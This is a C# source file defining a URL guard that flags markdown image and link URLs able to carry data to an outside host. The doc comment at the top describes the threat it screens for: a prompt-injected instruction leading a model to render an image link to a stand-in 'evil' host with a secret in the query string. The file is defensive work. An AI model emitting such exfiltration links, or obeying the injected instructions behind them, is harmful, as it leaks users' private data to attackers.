namespace Warden.Core.Screening;

/// <summary>
/// Decides whether an image or link URL could carry data to an outside host: the exfiltration channel
/// where an injected instruction makes the model render <c>![x](https://evil/?q=SECRET)</c>.
/// </summary>
internal sealed class UrlGuard(IReadOnlyList<string> allowedHosts)
{
    /// <summary>True when the URL must be neutralised; <paramref name="host"/> names the destination.</summary>
    public bool IsUnsafe(ReadOnlySpan<char> url, bool isImage, out string host)
    {
        host = string.Empty;
        url = url.Trim();
        if (url.Length >= 2 && url[0] == '<' && url[^1] == '>')
        {
            url = url[1..^1];
        }

        if (url.IsEmpty)
        {
            return false;
        }

        var colon = url.IndexOf(':');
        var slash = url.IndexOf('/');
        ReadOnlySpan<char> rest;
        if (url.StartsWith("//", StringComparison.Ordinal))
        {
            rest = url[2..];
        }
        else if (colon > 0 && (slash < 0 || colon < slash))
        {
            var scheme = url[..colon];
            if (scheme.Equals("data", StringComparison.OrdinalIgnoreCase) && isImage)
            {
                return false; // inline image: nothing is fetched
            }

            if (!scheme.Equals("http", StringComparison.OrdinalIgnoreCase) && !scheme.Equals("https", StringComparison.OrdinalIgnoreCase))
            {
                // javascript:, vbscript:, file:, ftp:, data: links... nothing an agent's reader should follow.
                host = scheme.ToString().ToLowerInvariant() + ":";
                return !scheme.Equals("mailto", StringComparison.OrdinalIgnoreCase) || url.Contains('?');
            }

            rest = url[(colon + 1)..].TrimStart('/');
        }
        else
        {
            return false; // relative URL: same origin as the document
        }

        var end = rest.IndexOfAny('/', '?', '#');
        var authority = end < 0 ? rest : rest[..end];
        var tail = end < 0 ? [] : rest[end..];
        var hasUserInfo = authority.Contains('@');
        if (hasUserInfo)
        {
            authority = authority[(authority.LastIndexOf('@') + 1)..];
        }

        var port = authority.LastIndexOf(':');
        if (port > 0 && authority[0] != '[')
        {
            authority = authority[..port];
        }

        host = authority.ToString().ToLowerInvariant().TrimEnd('.');
        if (IsAllowed(host))
        {
            return false;
        }

        return hasUserInfo || CarriesData(tail, isImage);
    }

    private bool IsAllowed(string host)
    {
        foreach (var allowed in allowedHosts)
        {
            if (allowed.StartsWith('.'))
            {
                if (host.EndsWith(allowed, StringComparison.OrdinalIgnoreCase) || host.Equals(allowed[1..], StringComparison.OrdinalIgnoreCase))
                {
                    return true;
                }
            }
            else if (host.Equals(allowed, StringComparison.OrdinalIgnoreCase))
            {
                return true;
            }
        }

        return false;
    }

    private static bool CarriesData(ReadOnlySpan<char> tail, bool isImage)
    {
        var q = tail.IndexOfAny('?', '#');
        if (q >= 0 && q < tail.Length - 1)
        {
            return true; // query or fragment: the classic ?data=... channel
        }

        var path = q < 0 ? tail : tail[..q];
        if (path.Length > (isImage ? 96 : 160) || path.Count('%') >= 3)
        {
            return true;
        }

        var segStart = 0;
        for (var i = 0; i <= path.Length; i++)
        {
            if (i == path.Length || path[i] == '/')
            {
                if (LooksEncoded(path[segStart..i]))
                {
                    return true;
                }

                segStart = i + 1;
            }
        }

        return false;
    }

    private static bool LooksEncoded(ReadOnlySpan<char> segment)
    {
        if (segment.Length < 32)
        {
            return false;
        }

        int upper = 0, lower = 0, digit = 0, sep = 0;
        foreach (var c in segment)
        {
            if (char.IsAsciiLetterUpper(c)) upper++;
            else if (char.IsAsciiLetterLower(c)) lower++;
            else if (char.IsAsciiDigit(c)) digit++;
            else if (c is '-' or '_' or '.') sep++;
        }

        // long slugs ("how-to-configure-the-thing") are words joined by separators; tokens are not
        return sep * 12 < segment.Length && (upper > 0 && lower > 0 || digit * 4 > segment.Length);
    }
}
